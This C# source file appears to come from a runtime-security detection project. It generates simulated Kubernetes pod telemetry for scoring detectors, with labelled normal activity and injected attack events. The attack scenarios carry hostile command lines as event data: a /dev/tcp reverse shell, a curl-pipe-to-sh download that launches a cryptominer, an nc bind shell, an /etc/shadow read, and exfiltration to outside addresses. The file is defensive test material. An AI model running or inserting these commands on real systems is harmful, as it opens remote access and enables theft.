using RuntimeSentinel.Core.Events;

namespace RuntimeSentinel.Generators.Demo;

/// <summary>A pod the demo pretends to observe.</summary>
internal sealed record DemoPod(string Namespace, string Pod, string Container, string Image, string Digest, string OwnerKind, string OwnerName, string Node, LabelSet PodLabels)
{
    private static readonly System.Collections.Concurrent.ConcurrentDictionary<string, string> ContainerIds = new(StringComparer.Ordinal);

    /// <summary>
    /// Derived from the pod on every read: a pod made with <c>with { Pod = ... }</c> (a rollout, the next CronJob run)
    /// is a new container, and a stored value would be copied from the pod it replaced.
    /// </summary>
    public string ContainerId => ContainerIds.GetOrAdd(Pod, static p => "containerd://" + Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(p))));

    public WorkloadRef Ref(string cluster) => new(cluster, Namespace, Pod, Container, ContainerId, Image, Digest, OwnerKind, OwnerName, PodLabels);
}

/// <summary>
/// The demo's behaviour model: three realistic workloads (an nginx storefront with two replicas, a PostgreSQL
/// StatefulSet, a nightly-style report CronJob) with their normal activity, and five attacks that are injected
/// once the baselines are active. Deterministic for a given seed. Attack events carry
/// <c>labels.scenario = attack:&lt;name&gt;</c>, all others <c>normal</c>, so results can be scored.
/// </summary>
public sealed class DemoScenario
{
    public const string Cluster = "demo";

    public static readonly string[] AttackNames = ["reverse_shell", "shadow_read", "connection_burst", "cryptominer", "exfil_new_host", "bulk_upload_known_peer", "bind_shell"];

    /// <summary>Attacks that only change a rate or a volume (known binaries, known peers): only the models can see them.</summary>
    public static readonly string[] StealthyAttacks = ["connection_burst", "bulk_upload_known_peer"];

    /// <summary>Benign changes after learning, in order: a rolling update, a DNS name moving to new addresses, the next CronJob run.</summary>
    public static readonly string[] ChurnNames = ["dns_rotation", "rollout", "cronjob_run"];

    private static readonly LabelSet Normal = LabelSet.Of(("scenario", "normal"));

    private static readonly string[] StaticFiles =
        ["/usr/share/nginx/html/index.html", "/usr/share/nginx/html/app.js", "/usr/share/nginx/html/style.css", "/usr/share/nginx/html/img/logo.png", "/usr/share/nginx/html/favicon.ico"];

    private static readonly string[] NginxSyscalls = ["accept4", "read", "writev", "sendfile", "epoll_wait", "close", "openat", "fstat", "recvfrom", "setsockopt"];
    private static readonly string[] PostgresSyscalls = ["pread64", "pwrite64", "fdatasync", "lseek", "epoll_wait", "recvfrom", "sendto", "semop", "kill", "openat", "close"];
    private static readonly string[] BatchSyscalls = ["read", "write", "openat", "close", "mmap", "munmap", "brk", "fstat", "connect", "futex"];
    private string[] _s3Ips = ["52.218.48.10", "52.218.48.11", "52.218.49.5"];

    private const string Nginx = "/usr/sbin/nginx";
    private const string Sh = "/bin/sh";
    private const string Runc = "/usr/bin/runc";
    private const string Postgres = "/usr/lib/postgresql/16/bin/postgres";
    private const string Python = "/usr/local/bin/python3.12";

    private readonly Random _rnd;
    private readonly List<KeyValuePair<byte[], byte[]>> _batch = new(64);
    private readonly Dictionary<string, byte[]> _keys = new(StringComparer.Ordinal);
    private int _tick;

    public DemoScenario(int seed)
    {
        _rnd = new Random(seed);
        var storefrontLabels = LabelSet.Of(("app", "storefront"), ("pod-template-hash", "6d4cf56db6"));
        Storefront =
        [
            new DemoPod("shop", "storefront-6d4cf56db6-x7k2p", "nginx", "docker.io/library/nginx:1.27", "sha256:4c0fdaa8b6341bfdeca5f18f7837462c80cff90527ee35ef185571e1c327beac", "ReplicaSet", "storefront-6d4cf56db6", "node-a", storefrontLabels),
            new DemoPod("shop", "storefront-6d4cf56db6-q9w4z", "nginx", "docker.io/library/nginx:1.27", "sha256:4c0fdaa8b6341bfdeca5f18f7837462c80cff90527ee35ef185571e1c327beac", "ReplicaSet", "storefront-6d4cf56db6", "node-b", storefrontLabels),
        ];
        Db = new DemoPod("shop", "postgres-0", "postgres", "docker.io/library/postgres:16.4", "sha256:d1a5f0d0f6f2b4a8c7e9e3b1f0a2c4d6e8f0a1b3c5d7e9f1a3b5c7d9e1f3a5b7", "StatefulSet", "postgres", "node-a", LabelSet.Of(("app", "postgres")));
        Batch = new DemoPod("analytics", "report-builder-29412345-k7t2m", "report", "ghcr.io/acme/report-builder:2.3.1", "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "Job", "report-builder-29412345", "node-b", LabelSet.Of(("app", "report-builder")));
    }

    internal DemoPod[] Storefront { get; }

    /// <summary>
    /// One benign change (labelled <c>normal</c>, as it is): what a cluster does after the baselines learned, and
    /// what a detector must not page anyone for.
    /// </summary>
    public List<KeyValuePair<byte[], byte[]>> Churn(string name, DateTimeOffset now)
    {
        _batch.Clear();
        switch (name)
        {
            case "rollout":
                {
                    // The second replica is replaced by a pod of a new image digest; its entrypoint configures nginx.
                    var old = Storefront[1];
                    var pod = old with { Pod = "storefront-7c9d8bb5f4-m3n8t", Digest = "sha256:7b1e54a5c0f3d9e8a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9d1e3f5a7b9c1d3e5f7", Image = "docker.io/library/nginx:1.27.3", OwnerName = "storefront-7c9d8bb5f4", PodLabels = LabelSet.Of(("app", "storefront"), ("pod-template-hash", "7c9d8bb5f4")) };
                    Storefront[1] = pod;
                    var entry = Proc(1, 0, 0, "/docker-entrypoint.sh", "/docker-entrypoint.sh nginx -g daemon off;", Runc);
                    Add(Ev(EventKind.ProcessExec, pod, now, entry, Normal));
                    Add(Ev(EventKind.ProcessExec, pod, now, Proc(21, 1, 0, "/usr/bin/find", "find /docker-entrypoint.d/ -mindepth 1 -maxdepth 1 -type f", "/docker-entrypoint.sh"), Normal));
                    Add(Ev(EventKind.ProcessExec, pod, now, Proc(22, 1, 0, "/bin/sed", "sed -i s/80/8080/ /etc/nginx/conf.d/default.conf", "/docker-entrypoint.sh"), Normal));
                    Add(Ev(EventKind.FileOpen, pod, now, Proc(22, 1, 0, "/bin/sed", null, "/docker-entrypoint.sh"), Normal) with { FilePath = "/etc/nginx/conf.d/default.conf", FileFlags = "O_WRONLY|O_TRUNC" });
                    Add(Ev(EventKind.ProcessExec, pod, now, Proc(1, 0, 0, Nginx, "nginx -g daemon off;", Runc), Normal));
                    break;
                }

            case "dns_rotation":
                {
                    // The bucket's endpoint now answers from another network; the report job resolves it first.
                    _s3Ips = ["52.219.170.36", "52.219.170.38"];
                    var py = Proc(41, 7, 1000, Python, null, Sh);
                    Add(Ev(EventKind.DnsQuery, Batch, now, py, Normal) with { DnsName = "s3.eu-west-1.amazonaws.com", DnsAnswers = string.Join(',', _s3Ips) });
                    break;
                }

            case "cronjob_run":
                {
                    // The next scheduled run: a new Job and pod of the same CronJob, same image.
                    Batch = Batch with { Pod = "report-builder-29412346-p5q8r", OwnerName = "report-builder-29412346", Node = "node-a" };
                    Add(Ev(EventKind.ProcessExec, Batch, now, Proc(7, 1, 1000, Sh, "/bin/sh /entrypoint.sh", Runc), Normal));
                    Add(Ev(EventKind.ProcessExec, Batch, now, Proc(40, 7, 1000, Python, "python3.12 -m reports.build --day yesterday", Sh), Normal));
                    break;
                }

            default:
                throw new ArgumentOutOfRangeException(nameof(name), name, "unknown churn");
        }

        return _batch;
    }

    internal DemoPod Db { get; }

    internal DemoPod Batch { get; private set; }

    internal IEnumerable<DemoPod> Pods => [.. Storefront, Db, Batch];

    /// <summary>Normal activity for one 100 ms tick as (Kafka key, value) pairs; the list is reused by the next call.</summary>
    public List<KeyValuePair<byte[], byte[]>> NormalTick(DateTimeOffset now)
    {
        _batch.Clear();
        _tick++;
        foreach (var pod in Storefront)
        {
            StorefrontTick(pod, now);
        }

        PostgresTick(now);
        BatchTick(now);
        if (_tick % 10 == 0)
        {
            Resource(Storefront[0], now, 0.15, 0.02, 80);
            Resource(Storefront[1], now, 0.15, 0.02, 80);
            Resource(Db, now, 0.30, 0.04, 512);
            Resource(Batch, now, 0.40, 0.04, 300);
        }

        return _batch;
    }

    private void StorefrontTick(DemoPod pod, DateTimeOffset now)
    {
        var worker = Proc(1000 + _rnd.Next(4), 1, 101, Nginx, "nginx: worker process", Nginx);
        for (var i = 0; i < 2; i++)
        {
            Add(Ev(EventKind.NetAccept, pod, now, worker, Normal) with { Net = new NetInfo("tcp", "10.244.1.15", 8080, $"10.244.{_rnd.Next(0, 4)}.{_rnd.Next(2, 250)}", 30000 + _rnd.Next(30000), 0, 0) });
        }

        for (var i = 0; i < 3; i++)
        {
            Add(Ev(EventKind.FileOpen, pod, now, worker, Normal) with { FilePath = StaticFiles[_rnd.Next(StaticFiles.Length)], FileFlags = "O_RDONLY" });
        }

        Add(Ev(EventKind.FileOpen, pod, now, worker, Normal) with { FilePath = "/var/log/nginx/access.log", FileFlags = "O_WRONLY|O_APPEND" });
        if (_rnd.Next(3) == 0)
        {
            Add(Ev(EventKind.FileOpen, pod, now, worker, Normal) with { FilePath = $"/var/cache/nginx/proxy_temp/{_rnd.Next(10)}/{_rnd.Next(100):00}/{_rnd.Next(1, 99999):0000000000}", FileFlags = "O_RDWR|O_CREAT" });
        }

        for (var i = 0; i < 5; i++)
        {
            Add(Ev(EventKind.Syscall, pod, now, worker, Normal) with { SyscallName = NginxSyscalls[_rnd.Next(NginxSyscalls.Length)], ReturnCode = 0 });
        }

        if (_rnd.Next(4) == 0)
        {
            Add(Ev(EventKind.DnsQuery, pod, now, worker, Normal) with { DnsName = "cart.shop.svc.cluster.local", DnsAnswers = "10.96.40.10", Net = new NetInfo("udp", null, -1, "10.96.0.10", 53, 0, 0) });
        }

        // Every request that reaches the cart: one or two upstream connections per tick (a steady rate).
        for (var i = 1 + _rnd.Next(2); i > 0; i--)
        {
            Add(Ev(EventKind.NetConnect, pod, now, worker, Normal) with { Net = new NetInfo("tcp", "10.244.1.15", 40000 + _rnd.Next(20000), "10.96.40.10", 8080, 900, 350) });
        }

        // Kubernetes exec probe every 5 s: runc starts a shell that runs curl. Shells are normal here, but only under runc.
        if (_tick % 50 == (pod == Storefront[0] ? 0 : 25))
        {
            var shell = Proc(5000 + _rnd.Next(1000), 1, 101, Sh, "/bin/sh -c curl -fsS http://127.0.0.1:8080/healthz", Runc);
            Add(Ev(EventKind.ProcessExec, pod, now, shell, Normal));
            Add(Ev(EventKind.ProcessExec, pod, now, Proc(shell.Pid + 1, shell.Pid, 101, "/usr/bin/curl", "curl -fsS http://127.0.0.1:8080/healthz", Sh), Normal));
            Add(Ev(EventKind.NetConnect, pod, now, Proc(shell.Pid + 1, shell.Pid, 101, "/usr/bin/curl", null, Sh), Normal) with { Net = new NetInfo("tcp", "127.0.0.1", 50000 + _rnd.Next(10000), "127.0.0.1", 8080, 120, 80) });
            Add(Ev(EventKind.ProcessExit, pod, now, shell, Normal));
        }
    }

    private void PostgresTick(DateTimeOffset now)
    {
        var backend = Proc(200 + _rnd.Next(30), 1, 999, Postgres, "postgres: app shop 10.244.1.15(40122) idle", Postgres);
        Add(Ev(EventKind.NetAccept, Db, now, backend, Normal) with { Net = new NetInfo("tcp", "10.244.1.20", 5432, $"10.244.{_rnd.Next(0, 4)}.{_rnd.Next(2, 250)}", 40000 + _rnd.Next(20000), 0, 0) });
        for (var i = 0; i < 3; i++)
        {
            Add(Ev(EventKind.FileOpen, Db, now, backend, Normal) with { FilePath = $"/var/lib/postgresql/data/base/16384/{16384 + _rnd.Next(40)}", FileFlags = "O_RDWR" });
        }

        if (_rnd.Next(2) == 0)
        {
            Add(Ev(EventKind.FileOpen, Db, now, backend, Normal) with { FilePath = $"/var/lib/postgresql/data/pg_wal/{_rnd.Next(1, 200):X24}", FileFlags = "O_RDWR|O_CREAT" });
        }

        for (var i = 0; i < 6; i++)
        {
            Add(Ev(EventKind.Syscall, Db, now, backend, Normal) with { SyscallName = PostgresSyscalls[_rnd.Next(PostgresSyscalls.Length)], ReturnCode = 0 });
        }

        if (_tick % 50 == 10)
        {
            var shell = Proc(7000 + _rnd.Next(1000), 1, 999, Sh, "/bin/sh -c pg_isready -U postgres", Runc);
            Add(Ev(EventKind.ProcessExec, Db, now, shell, Normal));
            Add(Ev(EventKind.ProcessExec, Db, now, Proc(shell.Pid + 1, shell.Pid, 999, "/usr/lib/postgresql/16/bin/pg_isready", "pg_isready -U postgres", Sh), Normal));
        }
    }

    private void BatchTick(DateTimeOffset now)
    {
        var py = Proc(40 + _rnd.Next(3), 7, 1000, Python, "python3.12 -m reports.build --day yesterday", Sh);

        // A new report run starts every 8 s: runc → sh entrypoint → python.
        if (_tick % 80 == 5)
        {
            Add(Ev(EventKind.ProcessExec, Batch, now, Proc(7, 1, 1000, Sh, "/bin/sh /entrypoint.sh", Runc), Normal));
            Add(Ev(EventKind.ProcessExec, Batch, now, py, Normal));
        }

        Add(Ev(EventKind.FileOpen, Batch, now, py, Normal) with { FilePath = $"/data/in/part-{_rnd.Next(0, 64):0000}.csv", FileFlags = "O_RDONLY" });
        if (_rnd.Next(2) == 0)
        {
            Add(Ev(EventKind.FileOpen, Batch, now, py, Normal) with { FilePath = $"/tmp/report-{_rnd.NextInt64():x16}.tmp", FileFlags = "O_WRONLY|O_CREAT|O_TRUNC" });
        }

        for (var i = 0; i < 4; i++)
        {
            Add(Ev(EventKind.Syscall, Batch, now, py, Normal) with { SyscallName = BatchSyscalls[_rnd.Next(BatchSyscalls.Length)], ReturnCode = 0 });
        }

        if (_tick % 5 == 0)
        {
            Add(Ev(EventKind.DnsQuery, Batch, now, py, Normal) with { DnsName = "s3.eu-west-1.amazonaws.com", DnsAnswers = string.Join(',', _s3Ips), Net = new NetInfo("udp", null, -1, "10.96.0.10", 53, 0, 0) });
        }

        // The report streams its parts to S3: a steady 40-60 KB per tick.
        Add(Ev(EventKind.NetConnect, Batch, now, py, Normal) with { Net = new NetInfo("tcp", "10.244.2.31", 40000 + _rnd.Next(20000), _s3Ips[_rnd.Next(_s3Ips.Length)], 443, 2000, 40_000 + _rnd.Next(20_000)) });
    }

    private void Resource(DemoPod pod, DateTimeOffset now, double cpuMean, double cpuSd, int memMiB)
    {
        var cpu = Math.Max(0, cpuMean + (cpuSd * Gaussian()));
        var mem = (long)((memMiB + (2 * Gaussian())) * 1048576);
        Add(Ev(EventKind.ResourceUsage, pod, now, ProcessInfo.None, Normal) with { Resource = new ResourceSample(cpu, mem, _rnd.Next(0, 1 << 20), _rnd.Next(0, 1 << 20)) });
    }

    /// <summary>The events of one attack, labelled <c>attack:&lt;name&gt;</c>.</summary>
    public List<KeyValuePair<byte[], byte[]>> Attack(string name, DateTimeOffset now)
    {
        _batch.Clear();
        var label = LabelSet.Of(("scenario", "attack:" + name));
        switch (name)
        {
            case "reverse_shell":
                {
                    // Exploited nginx module spawns a shell that calls home.
                    var pod = Storefront[0];
                    var shell = Proc(31337, 1001, 101, Sh, "sh -c 'sh -i >& /dev/tcp/203.0.113.66/4444 0>&1'", Nginx);
                    Add(Ev(EventKind.ProcessExec, pod, now, shell, label));
                    Add(Ev(EventKind.Syscall, pod, now, shell, label) with { SyscallName = "dup2", ReturnCode = 0 });
                    Add(Ev(EventKind.NetConnect, pod, now, shell, label) with { Net = new NetInfo("tcp", "10.244.1.15", 51515, "203.0.113.66", 4444, 0, 0) });
                    break;
                }

            case "shadow_read":
                {
                    // SQL injection turned into COPY ... FROM '/etc/shadow' by the database server itself.
                    var backend = Proc(215, 1, 999, Postgres, "postgres: app shop 10.244.1.15(40122) COPY", Postgres);
                    Add(Ev(EventKind.FileOpen, Db, now, backend, label) with { FilePath = "/etc/shadow", FileFlags = "O_RDONLY" });
                    break;
                }

            case "cryptominer":
                {
                    var shell = Proc(88, 7, 1000, Sh, "sh -c 'curl -s http://198.51.100.23/x | sh'", Python);
                    var miner = Proc(89, 88, 1000, "/tmp/.cache/xmrig", "/tmp/.cache/xmrig -o pool.supportxmr.com:3333 --donate-level 0", Sh);
                    Add(Ev(EventKind.ProcessExec, Batch, now, shell, label));
                    Add(Ev(EventKind.ProcessExec, Batch, now, miner, label));
                    Add(Ev(EventKind.DnsQuery, Batch, now, miner, label) with { DnsName = "pool.supportxmr.com", Net = new NetInfo("udp", null, -1, "10.96.0.10", 53, 0, 0) });
                    Add(Ev(EventKind.NetConnect, Batch, now, miner, label) with { Net = new NetInfo("tcp", "10.244.2.31", 41234, "198.51.100.23", 3333, 0, 0) });
                    Add(Ev(EventKind.ResourceUsage, Batch, now, ProcessInfo.None, label) with { Resource = new ResourceSample(1.97, 310L * 1048576, 0, 0) });
                    break;
                }

            case "exfil_new_host":
                {
                    var backend = Proc(216, 1, 999, Postgres, "postgres: app shop 10.244.1.15(40123) SELECT", Postgres);
                    Add(Ev(EventKind.NetConnect, Db, now, backend, label) with { Net = new NetInfo("tcp", "10.244.1.20", 45001, "192.0.2.77", 443, 1200, 48_000_000) });
                    break;
                }

            case "connection_burst":
                {
                    // Credential stuffing through the storefront: its usual peer (the cart service), 60 connections a tick.
                    var pod = Storefront[0];
                    var worker = Proc(1001, 1, 101, Nginx, "nginx: worker process", Nginx);
                    for (var i = 0; i < 60; i++)
                    {
                        Add(Ev(EventKind.NetConnect, pod, now, worker, label) with { Net = new NetInfo("tcp", "10.244.1.15", 40000 + i, "10.96.40.10", 8080, 900, 350) });
                    }

                    break;
                }

            case "bulk_upload_known_peer":
                {
                    // The report job's usual bucket, its usual binary: 40 MB a tick instead of 50 KB (a stealthy attack lasts
                    // several ticks; see DemoEventGenerator).
                    var py = Proc(40, 7, 1000, Python, "python3.12 -m reports.build --day yesterday", Sh);
                    for (var i = 0; i < 8; i++)
                    {
                        Add(Ev(EventKind.NetConnect, Batch, now, py, label) with { Net = new NetInfo("tcp", "10.244.2.31", 42000 + i, _s3Ips[i % _s3Ips.Length], 443, 4_000, 5_000_000) });
                    }

                    break;
                }

            case "bind_shell":
                {
                    var pod = Storefront[1];
                    var nc = Proc(4242, 1002, 101, "/usr/bin/nc", "nc -lvp 4444 -e /bin/sh", Nginx);
                    Add(Ev(EventKind.ProcessExec, pod, now, nc, label));
                    Add(Ev(EventKind.NetListen, pod, now, nc, label) with { Net = new NetInfo("tcp", "0.0.0.0", 4444, null, -1, 0, 0) });
                    break;
                }

            default:
                throw new ArgumentOutOfRangeException(nameof(name), name, "unknown attack");
        }

        return _batch;
    }

    /// <summary>Messages that must be dead-lettered without disturbing anything else.</summary>
    public static byte[] Malformed(int i) => (i % 4) switch
    {
        0 => "{\"schema\":1,\"kind\":\"process_exec\",\"ts\":\"2026-11-29T00:00:00Z\",\"workload\":{\"pod\":\"x\"}"u8.ToArray(),
        1 => "{\"schema\":1,\"kind\":\"net_connect\",\"ts\":\"2026-11-29T00:00:00Z\",\"workload\":{\"pod\":\"x\"},\"net\":{\"remote_ip\":\"10.0.0.1\",\"remote_port\":\"443\"}}"u8.ToArray(),
        2 => "{\"schema\":1,\"kind\":\"teleport\",\"ts\":\"2026-11-29T00:00:00Z\",\"workload\":{\"pod\":\"x\"}}"u8.ToArray(),
        _ => System.Text.Encoding.UTF8.GetBytes("{\"schema\":1,\"kind\":\"file_open\",\"ts\":\"2026-11-29T00:00:00Z\",\"workload\":{\"pod\":\"x\"},\"file\":{\"path\":\"/" + new string('a', 10000) + "\"}}"),
    };

    private static ProcessInfo Proc(int pid, int ppid, int uid, string exe, string? args, string? parent) => new(pid, ppid, uid, exe, args, parent);

    private static RuntimeEvent Ev(EventKind kind, DemoPod pod, DateTimeOffset now, ProcessInfo p, LabelSet labels) =>
        new() { Kind = kind, Timestamp = now, Node = pod.Node, Workload = pod.Ref(Cluster), Process = p, Labels = labels };

    private void Add(in RuntimeEvent e)
    {
        // Keyed by namespace and owner so one workload's events stay in one partition, in order.
        var owner = e.Workload.OwnerName!;
        if (!_keys.TryGetValue(owner, out var key))
        {
            key = System.Text.Encoding.UTF8.GetBytes(e.Workload.Namespace + "/" + owner);
            _keys[owner] = key;
        }

        _batch.Add(KeyValuePair.Create(key, EventJsonWriter.ToUtf8(e)));
    }

    private double Gaussian()
    {
        // Box-Muller; the demo only needs plausible noise.
        var u1 = 1.0 - _rnd.NextDouble();
        var u2 = _rnd.NextDouble();
        return Math.Sqrt(-2.0 * Math.Log(u1)) * Math.Cos(2 * Math.PI * u2);
    }
}
